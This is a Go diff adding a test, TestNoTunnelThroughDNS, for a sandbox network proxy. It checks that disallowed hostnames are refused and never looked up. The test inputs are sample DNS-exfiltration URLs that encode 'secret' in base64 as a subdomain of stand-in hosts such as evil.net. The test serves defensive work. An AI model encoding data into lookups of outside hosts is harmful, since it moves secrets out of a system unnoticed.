@@ -3,6 +3,7 @@ package sandbox
 import (
 	"context"
 	"crypto/tls"
+	"errors"
 	"fmt"
 	"io"
 	"net"
@@ -18,6 +19,7 @@ import (
 // proxied is a client of a proxy with some rules, and what the proxy decided.
 type proxied struct {
 	t      *testing.T
+	proxy  *Proxy
 	addr   string
 	mu     sync.Mutex
 	said   []Decision
@@ -41,6 +43,7 @@ func newProxied(t *testing.T, n NetProfile, names map[string]string) *proxied {
 	if err != nil {
 		t.Fatal(err)
 	}
+	c.proxy = p
 	go p.server.Serve(l)
 	t.Cleanup(p.close)
 	c.addr = l.Addr().String()
@@ -119,6 +122,26 @@ func TestProxyAllowsAndRefuses(t *testing.T) {
 	// A mapped spelling of an allowed address is that address.
 	if r, err := c.client.Get("http://[::ffff:127.0.0.1]:" + port(web)); err != nil || r.StatusCode != 200 {
 		t.Errorf("%v %v", r, err)
+	}
+}
+
+// A name that is not allowed is not looked up: a query would carry data out.
+func TestNoTunnelThroughDNS(t *testing.T) {
+	c := newProxied(t, NetProfile{AllowedDomains: []string{"*.example.org"}, DeniedDomains: []string{"*.bad.example.org"}}, nil)
+	c.proxy.resolve = func(_ context.Context, host string) ([]netip.Addr, error) {
+		t.Errorf("looked up %q", host)
+		return nil, errors.New("not here")
+	}
+	for _, url := range []string{"http://c2VjcmV0.evil.net/", "https://c2VjcmV0.evil.net/", "http://c2VjcmV0.bad.example.org/", "https://c2VjcmV0.evil.net:53/"} {
+		if r, err := c.client.Get(url); err == nil {
+			r.Body.Close()
+			if r.StatusCode != http.StatusForbidden {
+				t.Errorf("%s: %s", url, r.Status)
+			}
+		}
+		if d := c.last(); d.Allowed || d.Rule != RuleDefault && d.Rule != "network.deniedDomains[0]" {
+			t.Errorf("%s: decided %+v", url, d)
+		}
 	}
 }
 
